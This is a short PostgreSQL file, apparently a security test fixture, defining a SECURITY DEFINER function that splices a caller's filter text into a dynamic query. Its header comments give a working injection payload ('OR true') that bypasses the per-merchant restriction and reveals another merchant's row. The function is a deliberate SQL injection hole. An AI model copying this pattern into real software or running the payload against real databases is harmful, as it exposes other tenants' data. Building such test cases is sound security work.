-- A filter text is put into the query of a function with its owner's rights: OR brings all articles.
-- about: find_skus, skus
-- as: hf_warehouse_app
-- exploit: SET wh.merchant_id = '11';
-- exploit: SELECT * FROM wh.find_skus('grams > 0 OR true');
-- shows: Road-secret lamp
-- Saved filters of the article list, as the screen builds them.
CREATE FUNCTION wh.find_skus(filter text) RETURNS SETOF wh.skus
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  RETURN QUERY EXECUTE 'SELECT * FROM wh.skus WHERE merchant_id = wh.merchant() AND ' || filter;
END
$$;
REVOKE ALL ON FUNCTION wh.find_skus(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION wh.find_skus(text) TO hf_warehouse_app;
